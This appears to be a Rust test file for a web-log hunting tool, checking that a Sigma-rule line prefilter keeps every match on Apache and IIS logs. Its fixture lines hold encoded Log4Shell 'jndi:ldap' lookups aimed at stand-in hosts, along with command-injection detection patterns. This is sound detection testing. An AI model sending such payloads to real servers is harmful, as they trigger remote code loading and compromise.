//! The line prefilter never changes a finding: on random Sigma rules and random (often hostile)
//! web lines, the rules matched with the gate on (lines decided before parsing) are the rules
//! matched with it off, line by line, for Apache combined and IIS W3C logs.

mod common;

use proptest::prelude::*;
use spoor_event::{LogSource, SharedGates};
use spoor_input::{read_reader, InputFormat, ReadOptions};
use spoor_sigma::RuleSetBuilder;
use std::collections::BTreeSet;
use std::sync::Arc;

/// Characters that stress decoding, folding and splitting.
const ALPHABET: &[&str] = &[
    "a", "A", "b", "k", "K", "s", "S", "\u{212A}", "\u{17F}", "é", "É", "%", "%25", "%24", "%7B",
    "%2F", "+", "?", "&", "=", " ", "\\x24", "\\\"", "\\", "/", ".", "$", "{", "}", "0", "1", "4",
    "7", "ab", "jndi", "cmd", "php", "-", "|", ";", "`", "id", "sh", "%7C", "%3B",
];

fn piece() -> impl Strategy<Value = String> {
    prop::collection::vec(prop::sample::select(ALPHABET), 0..6).prop_map(|v| v.concat())
}

fn value() -> impl Strategy<Value = String> {
    prop::collection::vec(prop::sample::select(&ALPHABET[..36]), 1..4).prop_map(|v| v.concat())
}

const FIELDS: &[&str] = &[
    "cs-uri-query",
    "cs-uri-stem",
    "cs-uri",
    "cs-uri-decoded",
    "cs-user-agent",
    "cs-user-agent-decoded",
    "cs-referer",
    "cs-referer-decoded",
    "cs-method",
    "cs-version",
    "cs-host",
    "c-ip",
    "cs-username",
];

const MODIFIERS: &[&str] = &["", "|contains", "|startswith", "|endswith", "|contains|all"];

fn yaml_str(s: &str) -> String {
    let mut out = String::from("'");
    for c in s.chars() {
        if c == '\'' {
            out.push_str("''");
        } else {
            out.push(c);
        }
    }
    out.push('\'');
    out
}

/// One detection item: `field|mod: value`, a regex, a number or an address range.
fn item() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => (
            prop::sample::select(FIELDS),
            prop::sample::select(MODIFIERS),
            value(),
            value()
        )
            .prop_map(|(f, m, a, b)| format!("    {f}{m}:\n      - {}\n      - {}\n", yaml_str(&a), yaml_str(&b))),
        1 => (prop::sample::select(FIELDS), prop::sample::select(&["(?i)a[bk]c", "(?i)/(?:cmd|sh)\\.php$", "jn.i", "^[0-9]{3}$", "(?i)s{2}", "x?y", "(?i)ab.*\\.php", "[%$]\\{[a-z]+k", "(?i)=\\s*[|;`]\\s*(?:id|sh)", "(?i)[?&](?:c|x)=\\s*a"][..]))
            .prop_map(|(f, r)| format!("    {f}|re: {}\n", yaml_str(r))),
        1 => (prop::sample::select(&["sc-status", "sc-bytes"][..]), prop::sample::select(&["gte", "lt", "gt"][..]), 0u32..2000)
            .prop_map(|(f, op, n)| format!("    {f}|{op}: {n}\n")),
        1 => prop::sample::select(&["10.0.0.0/8", "192.168.1.0/24", "::/0"][..])
            .prop_map(|n| format!("    c-ip|cidr: {n}\n")),
        1 => prop::sample::select(&["404", "200", "0"][..]).prop_map(|n| format!("    sc-status: {n}\n")),
    ]
}

fn rule(i: usize) -> impl Strategy<Value = String> {
    (
        prop::collection::vec(item(), 1..3),
        prop::collection::vec(item(), 1..2),
        prop::option::of(prop::collection::vec(value(), 1..3)),
        0..4usize,
    )
        .prop_map(move |(a, b, kw, cond)| {
            let mut y = format!(
                "title: r{i}\nid: 00000000-0000-0000-0000-{i:012}\nlogsource:\n  category: webserver\ndetection:\n  sel1:\n"
            );
            a.iter().for_each(|t| y.push_str(t));
            y.push_str("  sel2:\n");
            b.iter().for_each(|t| y.push_str(t));
            let mut condition = ["sel1", "sel1 or sel2", "sel1 and not sel2", "sel1 and sel2"][cond].to_string();
            if let Some(kw) = kw {
                y.push_str("  keywords:\n");
                for k in kw {
                    y.push_str(&format!("    - {}\n", yaml_str(&k)));
                }
                condition = format!("({condition}) or keywords");
            }
            y.push_str(&format!("  condition: {condition}\nlevel: high\n"));
            y
        })
}

fn combined_line() -> impl Strategy<Value = String> {
    (piece(), piece(), piece(), piece(), 0u32..1200, 0u64..3_000_000, prop::sample::select(&["10.1.2.3", "192.168.1.9", "::1", "-", "bad"][..]))
        .prop_map(|(stem, query, referer, agent, status, bytes, ip)| {
            let status = 100 + status % 500;
            format!(
                "{ip} - - [12/Jul/2024:10:00:00 +0000] \"GET /{stem}?{query} HTTP/1.1\" {status} {bytes} \"{referer}\" \"{agent}\""
            )
        })
}

fn iis_line() -> impl Strategy<Value = String> {
    let token = || {
        piece().prop_map(|p| {
            if p.is_empty() || p.contains(' ') {
                "-".to_string()
            } else {
                p
            }
        })
    };
    (
        token(),
        token(),
        token(),
        0u32..600,
        prop::sample::select(&["0", "12", "+7", "007", "1e9", "-3"][..]),
        prop::sample::select(&["10.1.2.3", "192.168.1.9", "-"][..]),
    )
        .prop_map(|(stem, query, agent, status, bytes, ip)| {
            format!("2024-07-12 10:00:00 POST /{stem} {query} {ip} {agent} {status} {bytes}")
        })
}

/// Per line: the ids of the rules that matched, with the gate on or off.
fn matches(
    rules: &[String],
    text: &str,
    format: InputFormat,
    gated: bool,
) -> Vec<(u64, BTreeSet<String>)> {
    let mut b = RuleSetBuilder::new();
    for (i, r) in rules.iter().enumerate() {
        b.add_source(&format!("r{i}.yml"), r);
    }
    let set = b.build();
    let mut opts = ReadOptions {
        format: Some(format),
        ..ReadOptions::default()
    };
    if gated {
        opts.gates = Some(SharedGates(Arc::new(set.line_gates())));
    }
    let mut out = Vec::new();
    let mut ev_ = set.evaluator();
    let stats = read_reader("t.log", text.as_bytes(), &opts, |ev| {
        let line = match ev.origin.position {
            spoor_event::Position::Line(l) => l,
            _ => 0,
        };
        let ids: BTreeSet<String> = ev_
            .matching_rules(&ev)
            .iter()
            .map(|m| m.id.clone())
            .collect();
        if !ids.is_empty() {
            out.push((line, ids));
        }
    });
    assert!(stats.iter().all(|s| s.error.is_none()), "{stats:?}");
    out
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 160, .. ProptestConfig::default() })]

    #[test]
    fn gate_keeps_every_match_of_combined_lines(
        rules in prop::collection::vec(rule(1), 1..4),
        lines in prop::collection::vec(combined_line(), 1..30),
    ) {
        let text = lines.join("\n");
        let plain = matches(&rules, &text, InputFormat::WebAccess, false);
        let gated = matches(&rules, &text, InputFormat::WebAccess, true);
        prop_assert_eq!(gated, plain);
    }

    #[test]
    fn gate_keeps_every_match_of_iis_lines(
        rules in prop::collection::vec(rule(2), 1..4),
        lines in prop::collection::vec(iis_line(), 1..30),
    ) {
        let text = format!(
            "#Fields: date time cs-method cs-uri-stem cs-uri-query c-ip cs(User-Agent) sc-status sc-bytes\n{}",
            lines.join("\n")
        );
        let plain = matches(&rules, &text, InputFormat::Iis, false);
        let gated = matches(&rules, &text, InputFormat::Iis, true);
        prop_assert_eq!(gated, plain);
    }
}

/// The gate does decide lines: a rule with a literal lets the other lines through unbuilt.
#[test]
fn gate_skips_lines_no_rule_can_match() {
    let rule = "title: t\nid: 00000000-0000-0000-0000-000000000001\nlogsource:\n  category: webserver\ndetection:\n  sel:\n    cs-uri-query|contains: 'jndi'\n  condition: sel\nlevel: high\n";
    let mut b = RuleSetBuilder::new();
    b.add_source("t.yml", rule);
    let set = b.build();
    let gates = set.line_gates();
    let ls = LogSource::new(None, Some("webserver"), None);
    assert_eq!(gates.literals(&ls), Some(vec!["jndi".to_string()]));
    let opts = ReadOptions {
        gates: Some(SharedGates(Arc::new(gates))),
        ..ReadOptions::default()
    };
    let text = "10.0.0.1 - - [12/Jul/2024:10:00:00 +0000] \"GET /a?x=1 HTTP/1.1\" 200 5 \"-\" \"-\"\n\
                10.0.0.1 - - [12/Jul/2024:10:00:01 +0000] \"GET /a?x=%24%7Bjndi:ldap://e%7D HTTP/1.1\" 200 5 \"-\" \"-\"\n\
                10.0.0.1 - - [12/Jul/2024:10:00:02 +0000] \"GET /b HTTP/1.1\" 404 5 \"-\" \"-\"\n";
    let mut built = Vec::new();
    let stats = read_reader("access.log", text.as_bytes(), &opts, |ev| built.push(ev));
    assert_eq!(built.len(), 1, "only the jndi line is built");
    assert_eq!(stats[0].events, 3, "every line is still an event");
    assert_eq!(stats[0].prefiltered, 2);
    let span = stats[0]
        .prefiltered_span
        .expect("prefiltered lines are dated");
    assert_eq!(span.1.format("%S").to_string(), "02");
}

/// One rule without a literal (a negation alone) turns the gate off for its log source.
#[test]
fn a_rule_without_literal_turns_the_gate_off() {
    let rule = "title: t\nid: 00000000-0000-0000-0000-000000000002\nlogsource:\n  category: webserver\ndetection:\n  sel:\n    cs-method: GET\n  condition: not sel\nlevel: low\n";
    let mut b = RuleSetBuilder::new();
    b.add_source("t.yml", rule);
    let gates = b.build().line_gates();
    let ls = LogSource::new(None, Some("webserver"), None);
    assert_eq!(gates.literals(&ls), None);
    assert_eq!(gates.ungated(&ls).len(), 1);
}

/// The combined lines of `text` that `rules` match with the gate off are `want`, and the gate
/// keeps every one of them.
fn gate_keeps(rules: &[String], text: &str, want: &[u64]) {
    let plain = matches(rules, text, InputFormat::WebAccess, false);
    let gated = matches(rules, text, InputFormat::WebAccess, true);
    assert_eq!(plain.iter().map(|(l, _)| *l).collect::<Vec<_>>(), want);
    assert_eq!(gated, plain);
}

/// A literal that only the decoded companion holds (`${` sent as `%24%7B`, or as `\x24{` in an
/// nginx escape) still lets its line through.
#[test]
fn literal_only_in_the_decoded_request_is_seen() {
    let rule = "title: t\nid: 00000000-0000-0000-0000-000000000003\nlogsource:\n  category: webserver\ndetection:\n  sel:\n    cs-uri-decoded|contains: '${'\n  ua:\n    cs-user-agent-decoded|contains: '${'\n  condition: sel or ua\nlevel: high\n";
    let text = "10.0.0.1 - - [12/Jul/2024:10:00:00 +0000] \"GET /a?x=%2524%257Bx HTTP/1.1\" 200 5 \"-\" \"-\"\n\
                10.0.0.1 - - [12/Jul/2024:10:00:01 +0000] \"GET /plain HTTP/1.1\" 200 5 \"-\" \"\\x24{x}\"\n\
                10.0.0.1 - - [12/Jul/2024:10:00:02 +0000] \"GET /b HTTP/1.1\" 404 5 \"-\" \"-\"\n";
    gate_keeps(&[rule.to_string()], text, &[1, 2]);
}

/// A rule is tried when its trigger (its cheapest clause of literals only) is found; its other
/// literals are then looked for in the raw line and in the decoded texts. One that only the
/// decoded request holds still counts, and a field literal (a short one, looked for in its
/// field's value only) does not count when another field holds it.
#[test]
fn literals_looked_for_after_the_trigger_are_seen_in_decoded_texts() {
    let rule = "title: t\nid: 00000000-0000-0000-0000-000000000004\nlogsource:\n  category: webserver\ndetection:\n  sel:\n    cs-uri-decoded|contains|all:\n      - 'triggerword'\n      - 'secwd'\n      - '|'\n  condition: sel\nlevel: high\n";
    let text = "10.0.0.1 - - [12/Jul/2024:10:00:00 +0000] \"GET /a?x=triggerword&y=%73ecwd%7C HTTP/1.1\" 200 5 \"-\" \"-\"\n\
                10.0.0.1 - - [12/Jul/2024:10:00:01 +0000] \"GET /a?x=triggerword&y=secwd HTTP/1.1\" 200 5 \"-\" \"a|b\"\n\
                10.0.0.1 - - [12/Jul/2024:10:00:02 +0000] \"GET /a?x=secwd| HTTP/1.1\" 200 5 \"-\" \"triggerword\"\n\
                10.0.0.1 - - [12/Jul/2024:10:00:03 +0000] \"GET /triggerword/secwd/%7c HTTP/1.1\" 200 5 \"-\" \"-\"\n";
    gate_keeps(&[rule.to_string()], text, &[1, 4]);
}

/// A field literal scanned for one rule must not hide the line from the literals another rule
/// looks for afterwards (found by the `input_gated` fuzz target: the field's lower-cased value
/// was written over the lower-cased line).
#[test]
fn a_field_scanned_for_one_rule_leaves_the_line_to_the_next() {
    let post = "title: a\nid: 00000000-0000-0000-0000-00000000000a\nlogsource:\n  category: webserver\ndetection:\n  sel:\n    cs-uri-stem|contains: 'trigword'\n    cs-method: 'POST'\n  condition: sel\nlevel: high\n";
    let both = "title: b\nid: 00000000-0000-0000-0000-00000000000b\nlogsource:\n  category: webserver\ndetection:\n  sel:\n    cs-uri|contains|all:\n      - 'trigword'\n      - 'lazyw'\n  condition: sel\nlevel: high\n";
    let text = "10.0.0.1 - - [12/Jul/2024:10:00:00 +0000] \"GET /trigword/lazyw HTTP/1.1\" 200 5 \"-\" \"-\"\n";
    gate_keeps(&[post.to_string(), both.to_string()], text, &[1]);
}

/// A line the gate lets through carries the rules it proved may match (its hint), which its
/// own set evaluates in place of the event index; a set that did not build the gate ignores the
/// hint and finds the same.
#[test]
fn a_gated_event_names_the_rules_that_may_match_it() {
    let jndi = "title: j\nid: 00000000-0000-0000-0000-0000000000c1\nlogsource:\n  category: webserver\ndetection:\n  sel:\n    cs-uri-query|contains: 'jndi'\n  condition: sel\nlevel: high\n";
    let missing = "title: m\nid: 00000000-0000-0000-0000-0000000000c2\nlogsource:\n  category: webserver\ndetection:\n  sel:\n    sc-status: 404\n  condition: sel\nlevel: low\n";
    let mut b = RuleSetBuilder::new();
    b.add_source("j.yml", jndi);
    b.add_source("m.yml", missing);
    let set = b.build();
    let opts = ReadOptions {
        gates: Some(SharedGates(Arc::new(set.line_gates()))),
        ..ReadOptions::default()
    };
    let text = "10.0.0.1 - - [12/Jul/2024:10:00:00 +0000] \"GET /a?x=%24%7Bjndi:x%7D HTTP/1.1\" 200 5 \"-\" \"-\"\n\
                10.0.0.1 - - [12/Jul/2024:10:00:01 +0000] \"GET /b HTTP/1.1\" 404 5 \"-\" \"-\"\n\
                10.0.0.1 - - [12/Jul/2024:10:00:02 +0000] \"GET /c?jndi HTTP/1.1\" 404 5 \"-\" \"-\"\n\
                10.0.0.1 - - [12/Jul/2024:10:00:03 +0000] \"GET /d HTTP/1.1\" 200 5 \"-\" \"-\"\n";
    let mut built = Vec::new();
    read_reader("access.log", text.as_bytes(), &opts, |ev| built.push(ev));
    let hinted: Vec<Vec<u32>> = built
        .iter()
        .map(|e| {
            e.gate_hint
                .as_ref()
                .map(|h| h.rules.clone())
                .unwrap_or_default()
        })
        .collect();
    assert_eq!(
        hinted,
        vec![vec![0], vec![1], vec![0, 1]],
        "one hint per line let through"
    );
    let ids = |set: &spoor_sigma::RuleSet| -> Vec<Vec<String>> {
        let mut ev = set.evaluator();
        built
            .iter()
            .map(|e| {
                let mut ids: Vec<String> =
                    ev.matching_rules(e).iter().map(|m| m.id.clone()).collect();
                ids.sort();
                ids
            })
            .collect()
    };
    let want = vec![
        vec!["00000000-0000-0000-0000-0000000000c1".to_string()],
        vec!["00000000-0000-0000-0000-0000000000c2".to_string()],
        vec![
            "00000000-0000-0000-0000-0000000000c1".to_string(),
            "00000000-0000-0000-0000-0000000000c2".to_string(),
        ],
    ];
    assert_eq!(ids(&set), want);
    // Another set with the same rules in the other order: the hint's numbers are not its own.
    let mut b = RuleSetBuilder::new();
    b.add_source("m.yml", missing);
    b.add_source("j.yml", jndi);
    assert_eq!(ids(&b.build()), want);
}

/// A clause of field literals rare in whole lines (`${`) wakes its rule when the line holds
/// them anywhere, so the rule is not tried on every line; a status alone is tried on every line
/// and says so.
#[test]
fn rare_field_literals_wake_their_rule() {
    let nested = "title: n\nid: 00000000-0000-0000-0000-0000000000d1\nlogsource:\n  category: webserver\ndetection:\n  sel:\n    - cs-uri-decoded|contains: '${'\n    - cs-user-agent-decoded|contains: '${'\n  condition: sel\nlevel: high\n";
    let missing = "title: m\nid: 00000000-0000-0000-0000-0000000000d2\nlogsource:\n  category: webserver\ndetection:\n  sel:\n    sc-status: 404\n  condition: sel\nlevel: low\n";
    let ls = LogSource::new(None, Some("webserver"), None);
    let mut b = RuleSetBuilder::new();
    b.add_source("n.yml", nested);
    let gates = b.build().line_gates();
    assert!(gates.tried_on_every_line(&ls).is_empty());
    assert_eq!(gates.literals(&ls), Some(vec!["${".to_string()]));
    assert_eq!(gates.scanned_literals(&ls), Some(vec!["${".to_string()]));
    let mut b = RuleSetBuilder::new();
    b.add_source("m.yml", missing);
    let gates = b.build().line_gates();
    assert_eq!(
        gates.scanned_literals(&ls),
        Some(vec![]),
        "a status has no literal to scan"
    );
    let every: Vec<String> = gates
        .tried_on_every_line(&ls)
        .iter()
        .map(|m| m.title.clone())
        .collect();
    assert_eq!(every, vec!["m".to_string()]);
    let text = "10.0.0.1 - - [12/Jul/2024:10:00:00 +0000] \"GET /a?x=%24%7Bx HTTP/1.1\" 200 5 \"-\" \"-\"\n\
                10.0.0.1 - - [12/Jul/2024:10:00:01 +0000] \"GET /b HTTP/1.1\" 404 5 \"-\" \"${x}\"\n\
                10.0.0.1 - - [12/Jul/2024:10:00:02 +0000] \"GET /c?$%7B HTTP/1.1\" 200 5 \"${\" \"-\"\n\
                10.0.0.1 - - [12/Jul/2024:10:00:03 +0000] \"GET /d HTTP/1.1\" 404 5 \"-\" \"-\"\n";
    gate_keeps(
        &[nested.to_string(), missing.to_string()],
        text,
        &[1, 2, 3, 4],
    );
    gate_keeps(&[nested.to_string()], text, &[1, 2, 3]);
}

/// Through the binary: the pack and indicators with the gate on and off give the same findings;
/// indicators on web fields (a domain, a URL) keep their lines; an address indicator, which no
/// literal stands for, turns the gate off.
#[test]
fn hunt_finds_the_same_with_and_without_the_prefilter() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("access.log");
    let mut body = String::new();
    for i in 0..200 {
        body.push_str(&format!(
            "10.0.0.{} - - [12/Jul/2024:10:00:{:02} +0000] \"GET /news/n{i}.htm HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"\n",
            i % 250,
            i % 60
        ));
    }
    body.push_str("10.0.0.9 - - [12/Jul/2024:10:01:00 +0000] \"GET /?q=%24%7Bjndi:ldap://x.example/a%7D HTTP/1.1\" 200 5 \"-\" \"-\"\n");
    body.push_str("10.0.0.9 - - [12/Jul/2024:10:01:01 +0000] \"GET /x HTTP/1.1\" 200 5 \"http://Evil-Stage.example/p\" \"-\"\n");
    std::fs::write(&log, body).unwrap();
    let iocs = dir.path().join("iocs.csv");
    std::fs::write(
        &iocs,
        "type,value,description\nurl,http://evil-stage.example/p,stage\n",
    )
    .unwrap();
    let ip_iocs = dir.path().join("ips.csv");
    std::fs::write(&ip_iocs, "type,value,description\nipv4,10.0.0.77,actor\n").unwrap();

    let run = |extra: &[&str]| {
        let out = common::spoor()
            .args(["hunt", "-f", "jsonl"])
            .args(extra)
            .arg(&log)
            .output()
            .unwrap();
        common::assert_exit_0(&out);
        let rows = common::jsonl(&out.stdout);
        let (summary, findings) = rows.split_last().expect("a summary line");
        let keys: Vec<String> = findings
            .iter()
            .map(|f| format!("{} {}", f["rule"]["id"], f["source"]["line"]))
            .collect();
        let prefiltered = summary["summary"]["files"][0]["prefiltered"]
            .as_u64()
            .unwrap_or(0);
        (keys, prefiltered)
    };
    let ioc = iocs.to_str().unwrap();
    let (gated, skipped) = run(&["--iocs", ioc]);
    let (plain, none) = run(&["--iocs", ioc, "--no-prefilter"]);
    assert_eq!(gated, plain);
    assert!(
        gated.iter().any(|k| k.ends_with(" 202")),
        "the URL indicator's line: {gated:?}"
    );
    assert!(
        gated.iter().any(|k| k.ends_with(" 201")),
        "the Log4Shell line: {gated:?}"
    );
    assert_eq!(none, 0);
    assert!(skipped >= 190, "{skipped} lines prefiltered");
    let (_, with_ip) = run(&["--iocs", ip_iocs.to_str().unwrap()]);
    assert_eq!(with_ip, 0, "an address indicator needs every event");
}

/// `rules check --explain` says what each web rule needs before its line is parsed: literals,
/// field literals (`cs-uri-decoded holds "|"`) and field checks; and it names the rules that
/// have no requirement, which turn the gate off (text and JSON Lines).
#[test]
fn rules_check_explain_shows_each_rules_requirement() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let dir = tempfile::tempdir().unwrap();
    for name in [
        "web_webshell_command_parameter.yml",
        "web_status_not_found.yml",
    ] {
        std::fs::copy(root.join("rules/sigma").join(name), dir.path().join(name)).unwrap();
    }
    let run = |extra: &[&str]| {
        let out = common::spoor()
            .args(["rules", "check", "--explain"])
            .args(extra)
            .arg(dir.path())
            .output()
            .unwrap();
        common::assert_exit_0(&out);
        String::from_utf8(out.stdout).unwrap()
    };
    let text = run(&[]);
    assert!(
        text.contains("line prefilter (web server logs): 2 rules, "),
        "{text}"
    );
    let command = text
        .lines()
        .find(|l| l.contains("Operating System Command in a Web Request Parameter: needs one of"))
        .unwrap_or_else(|| panic!("{text}"));
    // The separators of `injected` are looked for in the decoded URI only, not anywhere.
    assert!(command.contains(r#"cs-uri-decoded holds "|""#), "{command}");
    assert!(!command.contains(r#" "=" "#), "{command}");
    assert!(
        text.contains(r#"Web Request Answered 404 Not Found: needs one of sc-status holds "404""#),
        "{text}"
    );

    std::fs::write(
        dir.path().join("neg.yml"),
        "title: Not A Get\nid: 00000000-0000-0000-0000-0000000000aa\nlogsource:\n  category: webserver\ndetection:\n  sel:\n    cs-method: GET\n  condition: not sel\nlevel: low\n",
    )
    .unwrap();
    let text = run(&[]);
    assert!(
        text.contains("off: some rule has no usable literal, every line is parsed"),
        "{text}"
    );
    assert!(
        text.contains(
            "Not A Get: no usable literal (a negation, exists or time part only): every line"
        ),
        "{text}"
    );
    let jsonl = run(&["--format", "jsonl"]);
    let rows = common::jsonl(jsonl.as_bytes());
    let pre = rows
        .iter()
        .find_map(|r| r.get("prefilter"))
        .expect("a prefilter object");
    assert_eq!(pre["logsource"], "webserver");
    assert!(pre["literals"].is_null(), "{pre}");
    let rules = pre["rules"].as_array().unwrap();
    assert_eq!(rules.len(), 3);
    assert!(rules
        .iter()
        .any(|r| r["title"] == "Not A Get" && r["needs_one_of"].is_null()));
}
